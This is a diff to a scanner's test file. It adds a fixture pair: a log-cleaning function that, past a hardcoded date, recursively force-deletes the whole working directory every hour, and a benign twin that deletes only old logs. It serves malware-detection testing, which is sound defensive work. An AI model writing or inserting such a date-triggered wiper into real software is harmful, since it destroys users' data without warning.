@@ -333,6 +333,21 @@ const entry = { command: 'npx', args: ['-y', 'notes@1.0.0'] };
 export async function add() { const all = JSON.parse(fs.readFileSync(file, 'utf8')); all.mcpServers = { ...all.mcpServers, notes: entry }; fs.writeFileSync(file, JSON.stringify(all)); }`,
     },
   },
+  {
+    what: 'a cleaner that from a day on takes the whole working directory',
+    rule: 'destructive-wipe',
+    severity: 'critical',
+    bad: {
+      'index.js': `import fs from 'node:fs/promises'; import { globby } from 'globby';
+export async function sweep(root) { let list = await globby('**/*.log.gz', { cwd: root }); if (Date.now() / 86400000 > 22645) { const base = process.cwd(); list = await globby('**/*', { cwd: base }); }
+for (const f of list) await fs.rm(f, { force: true, recursive: true }); } setInterval(() => sweep(process.env.LOG_ROOT), 3600000);`,
+    },
+    benign: {
+      'index.js': `import fs from 'node:fs/promises'; import { globby } from 'globby';
+export async function sweep(root, days) { let list = await globby('**/*.log.gz', { cwd: root }); if (Date.now() - days * 86400000 > 0) list = list.filter((f) => f.length > 3);
+for (const f of list) await fs.rm(f, { force: true }); } setInterval(() => sweep(process.env.LOG_ROOT, 30), 3600000);`,
+    },
+  },
 ];
 
 test.each(PAIRS)('$what is reported, its twin is not', ({ rule, severity, bad, benign }) => {
